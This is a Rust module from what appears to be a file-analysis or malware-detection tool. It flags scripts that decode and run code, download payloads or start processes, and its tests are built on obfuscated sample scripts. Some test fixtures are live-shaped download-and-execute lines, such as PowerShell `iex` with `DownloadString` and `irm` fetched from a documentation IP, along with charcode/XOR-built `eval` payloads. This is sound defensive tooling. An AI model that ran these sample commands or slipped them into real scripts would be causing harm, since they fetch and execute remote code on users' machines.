//! Scripts that came as files, parts or members, or were decoded: what they do.
//!
//! A page's own script, that of a PDF, the script of an app package and what a macro decodes are their host's matter.

use memchr::memmem;

use super::vba_calls::is_hidden_origin;
use super::{Analyzer, Findings, Found, Look, Sees};
use crate::formats::command_line;
use crate::formats::encoded::{self, Meaning};
use crate::formats::script::{self, Language, Token, TokenKind};
use crate::formats::vba::{Event, Module, Receiver, fold};
use crate::knowledge::{Behaviours, Deed};
use crate::model::{Artifact, Family, Kind};
use crate::text;

/// Its row in the table.
pub(super) const ROW: Analyzer = Analyzer {
    name: "scripts",
    kinds: KINDS,
    sees: Sees::Place,
    findings: &["script"],
    run,
};

/// Programs in text that a double click or an interpreter runs.
pub(super) const KINDS: &[Kind] = &[
    Kind::Js,
    Kind::Jse,
    Kind::Vbs,
    Kind::Vbe,
    Kind::Wsf,
    Kind::Sct,
    Kind::Hta,
    Kind::Ps1,
    Kind::Bat,
    Kind::Sh,
    Kind::Py,
    Kind::Pl,
    Kind::Rb,
    Kind::Php,
    Kind::Lua,
    Kind::Au3,
    Kind::AppleScript,
    Kind::Reg,
    Kind::Inf,
];

/// Shortest text that is worth turning around.
const TURNED: usize = 8;

/// Bytes of a script that are searched.
const LONGEST: usize = 4 << 20;

fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
    let artifact = look.artifact;
    let decoded = matches!(artifact.via, Some("decoded-text" | "script-block"));
    // What two scripts hide alike is told once.
    let told = decoded && artifact.same_as.is_some();
    if !KINDS.contains(&artifact.kind) || told || is_of_its_host(look) {
        return;
    }
    let from_script = look
        .parent()
        .is_some_and(|parent| KINDS.contains(&parent.kind));
    let what = artifact.kind.describe();
    let behaviour = &look.knowledge.behaviour;
    let found = deed(artifact, behaviour).or_else(|| at_the_end(artifact, behaviour));
    match found.or_else(|| started_by_help(look)) {
        Some((variant, shown)) => {
            findings.report(Found::new("script", &format!("{what}: {shown}")).variant(variant));
        }
        // What a script decodes is told where it does something; the script itself is told anyway.
        None if decoded && from_script => {}
        // Hangul puts scripts with empty procedures into every document.
        None if look.parent().is_some_and(|parent| is_hangul(parent.kind)) => {}
        // Pages of help move things by scripts of their own files.
        None if artifact.kind == Kind::Js && artifact.via == Some("chm-member") => {}
        None => findings.report(Found::new("script", what)),
    }
}

/// The command of a page of help that calls an interpreter: help opens folders and editors, and nothing that runs code.
fn started_by_help(look: &Look<'_>) -> Option<(&'static str, String)> {
    if look.artifact.via != Some("help-shortcut") {
        return None;
    }
    let line = text::to_utf8(&look.artifact.data);
    let interpreters = &look.knowledge.commands.interpreters;
    let calls = command_line::commands(&line)
        .iter()
        .any(|command| interpreters.contains(&command.program));
    calls.then(|| ("starts-process", text::excerpt(line.trim())))
}

fn is_hangul(kind: Kind) -> bool {
    matches!(kind, Kind::Hwp | Kind::Hwpx | Kind::Hwpml)
}

/// Whether the script is a piece of something that is judged as a whole.
fn is_of_its_host(look: &Look<'_>) -> bool {
    let Some(parent) = look.parent() else {
        return false;
    };
    let decoded = look.artifact.via == Some("decoded-text");
    let js = look.artifact.kind == Kind::Js;
    let page = matches!(
        parent.kind,
        Kind::Html | Kind::Svg | Kind::Mht | Kind::Css | Kind::Epub | Kind::Pdf
    );
    // Forms in XML, whose scripts are those of a PDF.
    let page = page || look.artifact.via == Some("pdf-javascript");
    // An app of Windows may be made of pages; other scripts in its package are run beside it.
    let package = matches!(parent.kind, Kind::Jar | Kind::Apk | Kind::Xpi | Kind::Crx)
        || parent.kind == Kind::Appx && js;
    let part = matches!(parent.kind.family(), Family::Ooxml | Family::Odf)
        && look
            .artifact
            .name
            .as_ref()
            .is_some_and(|name| name.extensions().any(|extension| extension == "xml"));
    // Code of a macro or of a link is told by the macro, the link and the commands in it.
    let macros = decoded
        && look
            .ancestors()
            .any(|above| matches!(above.kind, Kind::VbaSource | Kind::XlmSource | Kind::Lnk));
    // What the script of a page comes to is still the page's.
    let of_page = decoded
        && js
        && matches!(parent.kind, Kind::Js)
        && look
            .ancestors()
            .any(|above| above.via == Some("script-block"));
    // A file that is attached to a PDF is opened by itself, and what names the script host is run by nothing else.
    let attached = look.artifact.via == Some("pdf-embedded-file");
    let hosted = || decoded && js && names_the_script_host(look.artifact);
    let of_page = (page && js || of_page) && !attached && !hosted();
    of_page || package || part || macros
}

/// Whether a script calls the Windows Script Host, which no browser gives to a page.
fn names_the_script_host(script: &Artifact) -> bool {
    let data = script.data.get(..LONGEST).unwrap_or(&script.data);
    let lower = data.to_ascii_lowercase();
    let made = memmem::find(&lower, b"activexobject(").is_some()
        || memmem::find(&lower, b"createobject(").is_some();
    made && memmem::find(&lower, b"wscript.").is_some()
}

/// The same of the end of a script that is longer than what is looked at: padding in front keeps nothing from running.
fn at_the_end(artifact: &Artifact, behaviour: &Behaviours) -> Option<(&'static str, String)> {
    /// An end that holds a loader.
    const END: usize = 256 << 10;
    if artifact.data.len() <= LONGEST {
        return None;
    }
    let from = artifact.data.len().saturating_sub(END);
    let end = Artifact::alone(artifact.kind, artifact.data.slice(from..));
    deed(&end, behaviour)
}

/// What a script does, and the texts that show it.
fn deed(artifact: &Artifact, behaviour: &Behaviours) -> Option<(&'static str, String)> {
    let data = artifact.data.get(..LONGEST).unwrap_or(&artifact.data);
    let source = text::to_utf8(data);
    if let Some((_, command)) = script::encoded_commands(&source).into_iter().next() {
        return Some(("decodes-and-runs", format!("encoded command: {command}")));
    }
    if let Some(shown) = runs_what_it_builds(artifact) {
        return Some(("decodes-and-runs", shown));
    }
    let language = language(artifact.kind);
    let tokens = language.map(|language| script::tokens(&source, language).0);
    let tokens = tokens.as_deref().unwrap_or_default();
    let unknown = match artifact.kind {
        Kind::Js => runs_unknown_member(&source, tokens),
        _ => runs_unknown(artifact),
    };
    if let Some(shown) = unknown {
        return Some(("starts-process", shown));
    }
    let mut squeezed = match language {
        Some(language) => squeezed_tokens(&source, tokens, language),
        None => squeezed_lines(&source, artifact.kind),
    };
    if matches!(artifact.kind, Kind::Js | Kind::Ps1 | Kind::Py) {
        add_lists(tokens, &mut squeezed);
    }
    if artifact.kind == Kind::Vbs {
        add_folded(artifact, &mut squeezed);
    }
    if behaviour.evaluator(artifact.kind, &squeezed).is_some() {
        let masked = script::masked_texts(&source).into_iter();
        let masked = masked.chain(script::based_texts(&source));
        let mut texts = masked.chain(encoded_texts(artifact));
        if let Some(shown) = texts.find(|text| is_code(text)) {
            return Some(("decodes-and-runs", shown));
        }
    }
    if let Some((deed, texts)) = behaviour.deed(artifact.kind, &squeezed) {
        let variant = match deed {
            Deed::DecodesAndRuns => "decodes-and-runs",
            Deed::Downloads => "downloads",
            Deed::StartsProcess => "starts-process",
        };
        return Some((variant, texts.join(", ").trim().to_owned()));
    }
    if artifact.kind == Kind::Bat {
        return started(&source, behaviour).map(|line| ("starts-process", line));
    }
    None
}

/// In JavaScript, an object whose name a function gives, and a member whose name one gives: `new ActiveXObject(d(1))`,
/// `o[d(2)](d(3))`. Libraries try a list of names, and call their members by them.
fn runs_unknown_member(source: &str, tokens: &[Token<'_>]) -> Option<String> {
    const MAKERS: [&str; 2] = ["ActiveXObject", "CreateObject"];
    let has = |maker: &&str| memmem::find(source.as_bytes(), maker.as_bytes()).is_some();
    if !MAKERS.iter().any(has) {
        return None;
    }
    let name = |at: usize| match tokens.get(at).map(|token| &token.kind) {
        Some(TokenKind::Name(name)) => name.as_ref(),
        _ => "",
    };
    let sign = |at: usize, sign: u8| {
        tokens
            .get(at)
            .is_some_and(|token| token.kind == TokenKind::Sign(sign))
    };
    let given = |at: usize| !name(at).is_empty() && sign(at.saturating_add(1), b'(');
    let mut made = None;
    let mut member = false;
    for at in 0..tokens.len() {
        let next = at.saturating_add(1);
        let makes = MAKERS.contains(&name(at)) && sign(next, b'(');
        if makes && given(next.saturating_add(1)) {
            made.get_or_insert(at);
        }
        let calls = sign(at, b'(') && at > 0 && sign(at.saturating_sub(1), b']');
        // `[name(text)](`: the bracket stands a few tokens before.
        let open = (2..=8).filter_map(|back| at.checked_sub(back));
        member |= calls
            && open
                .into_iter()
                .any(|open| sign(open, b'[') && given(open.saturating_add(1)));
    }
    let at = made.filter(|_| member)?;
    let span = tokens.get(at)?.span.clone();
    let line = source.get(span.start..)?.lines().next()?;
    Some(
        line.get(..line.floor_char_boundary(160))
            .unwrap_or(line)
            .to_owned(),
    )
}

/// `CreateObject(x).Run command` with an `x` that the script does not tell.
fn runs_unknown(artifact: &Artifact) -> Option<String> {
    if artifact.kind != Kind::Vbs {
        return None;
    }
    let module = Module::read(&artifact.data);
    let mut shown = None;
    fold(&module, &|_| 0, &mut |event| {
        if let Event::Call(call) = event
            && let Receiver::Object(trail) = call.receiver
            && matches!(call.name, "run" | "exec" | "shellexecute")
            && !call.arguments.is_empty()
            && is_hidden_origin(trail.split('>').next().unwrap_or_default())
        {
            let statement = module.data().get(call.statement.clone());
            let statement = statement.unwrap_or_default();
            shown.get_or_insert_with(|| module.decode(statement).into_owned());
        }
    });
    shown
}

/// What texts of a script in Basic say that it puts together from hexadecimal digits or base64.
fn encoded_texts(artifact: &Artifact) -> Vec<String> {
    let mut found = Vec::new();
    if artifact.kind == Kind::Vbs {
        let module = Module::read(&artifact.data);
        fold(&module, &|_| 0, &mut |event| {
            if let Event::Text { text, .. } = event
                && found.len() < 16
                && let Some(Meaning::Text(inner)) = encoded::whole(text.as_str())
            {
                found.push(inner);
            }
        });
    }
    found
}

/// Adds what the texts of each list come to one behind the other, as loops put them together; and every text turned
/// around in a script that turns something around.
fn add_lists(tokens: &[Token<'_>], squeezed: &mut String) {
    let has = |word: &str| memmem::find(squeezed.as_bytes(), word.as_bytes()).is_some();
    let turns = has("]::reverse(") || has(".reverse()");
    let mut texts: Vec<&str> = Vec::new();
    let mut comma = false;
    for token in tokens {
        if let TokenKind::Text(text) = &token.kind
            && turns
            && text.len() >= TURNED
            && squeezed.len() < LONGEST.saturating_mul(2)
        {
            squeezed.push('\n');
            let kept = text.chars().rev().filter(|c| !c.is_whitespace());
            squeezed.extend(kept.map(|c| c.to_ascii_lowercase()));
        }
        match &token.kind {
            TokenKind::Text(text) if comma || texts.is_empty() => {
                comma = false;
                texts.push(text);
            }
            TokenKind::Sign(b',') if !texts.is_empty() && !comma => comma = true,
            TokenKind::Line if comma => {}
            _ => {
                if texts.len() >= 4 && squeezed.len() < LONGEST.saturating_mul(2) {
                    squeezed.push('\n');
                    squeeze(&texts.concat(), squeezed);
                }
                texts.clear();
                comma = false;
            }
        }
    }
}

/// Whether a text that was made of numbers is a piece of a program.
fn is_code(text: &str) -> bool {
    text.len() >= 6 && text.contains(['(', '=', '.', ' '])
}

/// The script in lower case without blanks and without lines that are comments.
pub(super) fn squeezed(source: &str, kind: Kind) -> String {
    match language(kind) {
        Some(language) => squeezed_tokens(source, &script::tokens(source, language).0, language),
        None => squeezed_lines(source, kind),
    }
}

/// The language of a script that is read token by token.
fn language(kind: Kind) -> Option<Language> {
    Some(match kind {
        Kind::Js => Language::Js,
        Kind::Ps1 => Language::PowerShell,
        Kind::Py | Kind::Sh | Kind::Pl | Kind::Rb => Language::Other,
        _ => return None,
    })
}

/// [`squeezed`] of a script that is read line by line.
fn squeezed_lines(source: &str, kind: Kind) -> String {
    let marks: &[&str] = match kind {
        Kind::Js | Kind::Jse | Kind::Php => &["//", "*", "/*"],
        Kind::Vbs => &["'", "rem "],
        Kind::Bat => &["rem ", "@rem ", "::", "echo ", "@echo "],
        Kind::Wsf | Kind::Sct | Kind::Hta => &["//", "'", "<!--"],
        Kind::Au3 | Kind::Reg | Kind::Inf => &[";"],
        Kind::Lua | Kind::AppleScript => &["--"],
        _ => &["#"],
    };
    let mut out = String::with_capacity(source.len());
    for line in source.lines() {
        let line = line.trim();
        let head = line
            .get(..line.floor_char_boundary(8))
            .unwrap_or(line)
            .to_ascii_lowercase();
        // What is only shown is no deed, unless it goes on behind it.
        let shown = head.contains("echo ") && (line.contains('>') || line.contains('&'));
        if marks.iter().any(|mark| head.starts_with(mark)) && !shown {
            continue;
        }
        out.push('\n');
        out.extend(
            line.chars()
                .filter(|c| !c.is_whitespace() && !matches!(c, '`' | '^'))
                // Quotes within words of a batch file say nothing.
                .filter(|c| *c != '"' || kind != Kind::Bat)
                .map(|c| c.to_ascii_lowercase()),
        );
    }
    out
}

/// The tokens in lower case, comments and blanks left out, lines kept.
fn squeezed_tokens(source: &str, tokens: &[Token<'_>], language: Language) -> String {
    /// What shows the text behind it and does nothing else.
    const SHOWS: &[&str] = &[
        "write-host",
        "write-output",
        "write-verbose",
        "write-warning",
        "write-error",
        "echo",
    ];
    // A line's start is marked like that of every other one.
    let mut out = String::with_capacity(source.len().saturating_add(1));
    out.push('\n');
    let (mut shown, mut first) = (false, true);
    for token in tokens {
        let starts = std::mem::take(&mut first);
        match &token.kind {
            TokenKind::Line | TokenKind::Sign(b';' | b'|' | b'{' | b'}' | b'>') => {
                (shown, first) = (false, true);
            }
            TokenKind::Name(name) if language == Language::PowerShell && starts => {
                shown = SHOWS.contains(&name.to_ascii_lowercase().as_str());
            }
            TokenKind::Text(_) if shown => continue,
            _ => {}
        }
        match &token.kind {
            TokenKind::Line => out.push('\n'),
            TokenKind::Name(name) => push_lower(name, &mut out),
            _ => squeeze(source.get(token.span.clone()).unwrap_or_default(), &mut out),
        }
    }
    out
}

/// Adds a text in lower case without blanks.
fn squeeze(text: &str, out: &mut String) {
    if text.is_ascii() {
        for piece in text.split([' ', '\t', '\n', '\r', '\x0b', '\x0c']) {
            push_lower(piece, out);
        }
    } else {
        let kept = text.chars().filter(|c| !c.is_whitespace());
        out.extend(kept.map(|c| c.to_ascii_lowercase()));
    }
}

fn push_lower(text: &str, out: &mut String) {
    let from = out.len();
    out.push_str(text);
    if let Some(added) = out.get_mut(from..) {
        added.make_ascii_lowercase();
    }
}

/// Adds what the texts of a script in Basic come to.
fn add_folded(artifact: &Artifact, squeezed: &mut String) {
    let module = Module::read(&artifact.data);
    fold(&module, &|_| 0, &mut |event| {
        let texts: Vec<String> = match &event {
            Event::Text { text, .. } => vec![text.as_str().to_owned()],
            Event::Call(call) => call
                .arguments
                .iter()
                .filter_map(|one| one.value.as_text())
                .map(|text| text.as_str().to_owned())
                .collect(),
            _ => Vec::new(),
        };
        for text in &texts {
            if squeezed.len() > LONGEST.saturating_mul(2) {
                break;
            }
            squeezed.push('\n');
            squeezed.extend(
                text.chars()
                    .filter(|c| !c.is_whitespace())
                    .map(|c| c.to_ascii_lowercase()),
            );
        }
    });
}

/// `Execute` of Basic on a text that was put together.
fn runs_what_it_builds(artifact: &Artifact) -> Option<String> {
    if artifact.kind != Kind::Vbs {
        return None;
    }
    let module = Module::read(&artifact.data);
    let mut shown = None;
    fold(&module, &|_| 0, &mut |event| {
        if let Event::Call(call) = event
            && matches!(call.name, "execute" | "executeglobal" | "eval")
            && let Some(text) = call.arguments.first().and_then(|one| one.value.as_text())
        {
            let built = text.built();
            if built.characters > 3 || built.rearranged > 0 {
                shown.get_or_insert_with(|| text.as_str().to_owned());
            }
        }
    });
    shown
}

/// The first command of a batch file that starts foreign code.
fn started(source: &str, behaviour: &Behaviours) -> Option<String> {
    let starts = |line: &&str| {
        let bare = line.trim().trim_start_matches('@').to_ascii_lowercase();
        if bare.starts_with("rem ") || bare.starts_with("::") || bare.starts_with("echo ") {
            return false;
        }
        let start = bare.starts_with("start ") && bare.len() > 6;
        start
            || command_line::commands(line).iter().any(|command| {
                let batch = &behaviour.batch;
                let ordinary = batch.ordinary.get(&command.program);
                let arguments = command.arguments.to_lowercase();
                // A program that a loop put together is given an address.
                let hidden = command.program.starts_with(['%', '!']) && command.program.len() > 2;
                batch.starters.contains(&command.program)
                    && !ordinary.is_some_and(|given| arguments.contains(given.as_str()))
                    || hidden && arguments.contains("http")
            })
    };
    source
        .lines()
        .take(20_000)
        .find(starts)
        .map(|line| line.trim().to_owned())
}

#[cfg(test)]
mod tests {
    use super::super::tests::{artifact, findings_of, holding};
    use super::*;

    fn found(kind: Kind, source: &str) -> Vec<&'static str> {
        let tree = [holding(kind, source.as_bytes())];
        findings_of("scripts", &tree)
            .into_iter()
            .map(|(_, severity)| severity)
            .collect()
    }

    #[test]
    fn a_script_that_is_attached_to_a_pdf_is_a_file_by_itself() {
        let of_pdf = |via: &'static str, source: &str| {
            let mut child = holding(Kind::Js, source.as_bytes());
            child.id = 1;
            child.parent = Some(0);
            child.via = Some(via);
            findings_of("scripts", &[holding(Kind::Pdf, b"%PDF-1.7"), child]).len()
        };
        let run = "new ActiveXObject('WScript.Shell').Run('calc')";
        assert_eq!(of_pdf("pdf-embedded-file", run), 1);
        assert_eq!(of_pdf("pdf-embedded-file", "var a = 1; f(a);"), 1);
        assert_eq!(of_pdf("pdf-javascript", "app.alert('a')"), 0);
        assert_eq!(of_pdf("decoded-text", "app.alert('a')"), 0);
        let mut dropped = holding(Kind::Js, run.as_bytes());
        dropped.id = 1;
        dropped.parent = Some(0);
        dropped.via = Some("decoded-text");
        let page = holding(Kind::Html, b"<html></html>");
        assert_eq!(findings_of("scripts", &[page, dropped]).len(), 1);
    }

    #[test]
    fn padding_in_front_keeps_no_script_from_being_judged() {
        let padded = |line: &str, last: &str| [line.repeat(600_000), last.to_owned()].concat();
        let run = "CreateObject(\"WScript.Shell\").Run \"calc\"\r\n";
        assert_eq!(found(Kind::Vbs, &padded("' words\r\n", run)), ["critical"]);
        let quiet = padded("' words\r\n", "MsgBox \"done\"\r\n");
        assert_eq!(found(Kind::Vbs, &quiet), ["medium"]);
    }

    #[test]
    fn a_script_is_medium_and_one_that_does_something_critical() {
        for (kind, source) in [
            (
                Kind::Js,
                "function a(b) { return b + 1; }\n// new ActiveXObject('WScript.Shell').Run('x')\n",
            ),
            (
                Kind::Bat,
                "@echo off\r\ncopy a b\r\necho start powershell\r\nrem start x\r\nmsbuild App.sln /m\r\n",
            ),
            (
                Kind::Ps1,
                "Get-ChildItem | Sort-Object Name\n# Start-Process x\n",
            ),
            (
                Kind::Ps1,
                "Write-Host 'Invoke-WebRequest downloads'\nif ($a) { echo \"Start-Process\" }\n",
            ),
            (
                Kind::Js,
                "var keys = [97,108,101,114,116,40,41]; var g = new Function('return this')(); f(String.fromCharCode(keys[i]));",
            ),
            (
                Kind::Vbs,
                "' CreateObject(\"WScript.Shell\").Run x\r\nMsgBox 1\r\n",
            ),
            (Kind::Py, "import os\nprint(os.getcwd())\n"),
            (
                Kind::Bat,
                "for %%a in (1 2) do echo %%a\r\n%JAVA% -jar a.jar\r\n",
            ),
            (
                Kind::Js,
                "for (i in p) { try { x = new ActiveXObject(p[i]); } catch (e) {} } h[k](1);",
            ),
            (
                Kind::Ps1,
                "Set-Alias np notepad\nif ($confirm -eq 'http') { [array]::Reverse($a) }\n",
            ),
        ] {
            assert_eq!(found(kind, source), ["medium"], "{source}");
        }
        for (kind, source) in [
            (Kind::Js, "new ActiveXObject('WScript.Shell').Run('x');"),
            (
                Kind::Vbs,
                "CreateObject(\"WScr\" & \"ipt.Shell\").Run \"x\"\r\n",
            ),
            (
                Kind::Vbs,
                "Execute Chr(77) & Chr(115) & Chr(103) & Chr(66) & Chr(111) & Chr(120)\r\n",
            ),
            (
                Kind::Ps1,
                "iex ((New-Object Net.WebClient).DownloadString('http://192.0.2.1/'))",
            ),
            (
                Kind::Js,
                "var k = [52,57,48,39,33,125,100,124]; for (i in k) r += String.fromCharCode(k[i] ^ 85); new Function(r)();",
            ),
            (Kind::Ps1, "Write-Host hello; Start-Process calc\n"),
            (
                Kind::Vbs,
                "Set o = CreateObject(WScript.Arguments(0))\r\no.Run WScript.Arguments(1)\r\n",
            ),
            (
                Kind::Js,
                "var a = ['new ActiveX', 'Object(\"WScr', 'ipt.Shell\").', 'Run(1)'];for (i in a) r += a[i]; eval(r);",
            ),
            (Kind::Bat, "start \"\" a.exe\r\n"),
            (
                Kind::Bat,
                "for %%a in (m s) do set s=!s!%%a\r\n%s% http://192.0.2.1/a\r\n",
            ),
            (
                Kind::Js,
                "var o = new ActiveXObject(d('1')); o[d('2')](d('3'));",
            ),
            (Kind::Js, "GetObject('script:http://192.0.2.1/a')"),
            (Kind::Ps1, "[array]::Reverse($a); $b = 'x ssecorP-tratS'\n"),
            (Kind::Ps1, "sal x iex\nx $y\n"),
            (
                Kind::Ps1,
                "[ScriptBlock]::Create((irm 'http://192.0.2.1/')).Invoke()",
            ),
            (Kind::Py, "exec(base64.b64decode('YWJj'))\n"),
        ] {
            assert_eq!(found(kind, source), ["critical"], "{source}");
        }
    }

    #[test]
    fn the_script_of_a_page_or_a_package_and_the_code_of_a_macro_are_their_hosts_matter() {
        for (host, via) in [
            (Kind::Html, "decoded-text"),
            (Kind::Jar, "zip-member"),
            (Kind::VbaSource, "decoded-text"),
            (Kind::Mht, "mime-part"),
        ] {
            let mut child = holding(Kind::Js, b"x");
            child.id = 1;
            child.parent = Some(0);
            child.via = Some(via);
            assert!(
                findings_of("scripts", &[artifact(host), child]).is_empty(),
                "{host}"
            );
        }
    }
}
